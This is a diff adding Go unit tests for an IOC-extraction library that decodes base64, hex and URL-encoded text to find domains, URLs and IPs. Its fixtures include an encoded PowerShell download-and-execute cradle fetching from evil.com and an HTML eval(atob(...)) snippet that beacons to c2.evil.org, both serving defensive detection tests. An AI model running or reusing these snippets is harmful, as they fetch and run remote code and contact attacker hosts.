@@ -0,0 +1,119 @@
+package ioc
+
+import (
+	"encoding/base64"
+	"reflect"
+	"sort"
+	"testing"
+)
+
+func TestGetIOCsDecoded(t *testing.T) {
+	powershell := base64.StdEncoding.EncodeToString(utf16LE("IEX (New-Object Net.WebClient).DownloadString('http://evil.com/a.ps1')"))
+	tests := []struct {
+		name string
+		data string
+		// want Each IOC and its encoding Metadata, "" for IOCs in the plain text
+		want map[string]string
+	}{
+		{
+			"base64",
+			`var u = atob("aHR0cDovL2V2aWwuY29tL3BheWxvYWQ="); // from bad[.]net`,
+			map[string]string{"bad[.]net": "", "evil.com": "base64", "http://evil.com/payload": "base64"},
+		},
+		{
+			"base64 url safe without padding",
+			`token=` + base64.RawURLEncoding.EncodeToString([]byte("callback 93.184.216.34 >>>???")),
+			map[string]string{"93.184.216.34": "base64"},
+		},
+		{
+			"powershell encoded command",
+			"powershell -enc " + powershell,
+			map[string]string{"evil.com": "base64", "http://evil.com/a.ps1": "base64"},
+		},
+		{
+			"hex",
+			`s = "\x68\x74\x74\x70\x3a\x2f\x2f\x65\x76\x69\x6c\x2e\x63\x6f\x6d"; t = "312e322e332e34206361"`,
+			map[string]string{"evil.com": "hex", "http://evil.com": "hex", "1.2.3.4": "hex"},
+		},
+		{
+			"url",
+			`POST /submit HTTP/1.1\r\n\r\nnext=http%3A%2F%2Fphish.org%2Flogin`,
+			map[string]string{"phish.org": "url", "http://phish.org/login": "url"},
+		},
+		{
+			"url encoded URLs are not decoded",
+			`<a href="hxxps://redirect[.]com/?to=http%3A%2F%2Fphish.org"> or hxxp://evil[.]com/a%20b/payload.exe`,
+			map[string]string{"hxxps://redirect[.]com/?to=http%3A%2F%2Fphish.org": "", "redirect[.]com": "",
+				"hxxp://evil[.]com/a%20b/payload.exe": "", "evil[.]com": "", "payload.exe": ""},
+		},
+		{
+			"nested",
+			base64.StdEncoding.EncodeToString([]byte("go to 687474703a2f2f70686973682e6f7267 now")),
+			map[string]string{"phish.org": "base64>hex", "http://phish.org": "base64>hex"},
+		},
+		{
+			"not encoded",
+			"ThisIsALongIdentifierName and 874058e8d8582bf85c115ce319c5b0af",
+			map[string]string{"874058e8d8582bf85c115ce319c5b0af": ""},
+		},
+	}
+
+	for _, test := range tests {
+		got := map[string]string{}
+		for _, ioc := range GetIOCsDecoded(test.data, false) {
+			got[ioc.IOC] = ioc.Metadata["encoding"]
+		}
+		if !reflect.DeepEqual(got, test.want) {
+			t.Errorf("%s: got %v, wanted %v", test.name, got, test.want)
+		}
+	}
+}
+
+func TestGetIOCsDecodedKeepsIOCs(t *testing.T) {
+	// Defanged IOCs are kept as they are
+	data := "hxxp://evil[.]com/gate.php?id=%41%42"
+	want := []*FoundIOC{{IOC: "evil[.]com", Type: Domain}, {IOC: data, Type: URL}, {IOC: "gate.php", Type: File}}
+	got := GetIOCsDecoded(data, false)
+	sort.SliceStable(got, func(i, j int) bool { return got[i].Type < got[j].Type })
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got %v, wanted %v", got, want)
+	}
+
+	// Fanged IOCs in decoded text are always included
+	data = `evil[.]net ` + base64.StdEncoding.EncodeToString([]byte("http://c2.evil.org/beacon"))
+	base64Encoding := map[string]string{"encoding": "base64"}
+	want = []*FoundIOC{
+		{IOC: "evil[.]net", Type: Domain},
+		{IOC: "c2.evil.org", Type: Domain, Metadata: base64Encoding},
+		{IOC: "http://c2.evil.org/beacon", Type: URL, Metadata: base64Encoding},
+	}
+	got = GetIOCsDecoded(data, false)
+	sort.SliceStable(got, func(i, j int) bool { return got[i].Type < got[j].Type })
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got %v, wanted %v", got, want)
+	}
+}
+
+func TestGetIOCsFromContentDecode(t *testing.T) {
+	html := []byte(`<html><body><p>Loading</p><script>eval(atob("ZmV0Y2goJ2h0dHA6Ly9jMi5ldmlsLm9yZy9iZWFjb24nKQ=="))</script></body></html>`)
+	iocs, err := GetIOCsFromContentWithOptions(html, ContentOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(iocs) != 0 {
+		t.Errorf("Should not have decoded, got %v", iocs)
+	}
+
+	iocs, err = GetIOCsFromContentWithOptions(html, ContentOptions{Decode: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	sort.SliceStable(iocs, func(i, j int) bool { return iocs[i].Type < iocs[j].Type })
+	want := []*FoundIOC{
+		{IOC: "c2.evil.org", Type: Domain, Metadata: map[string]string{"encoding": "base64"}},
+		{IOC: "http://c2.evil.org/beacon", Type: URL, Metadata: map[string]string{"encoding": "base64"}},
+	}
+	if !reflect.DeepEqual(iocs, want) {
+		t.Errorf("got %v, wanted %v", iocs, want)
+	}
+}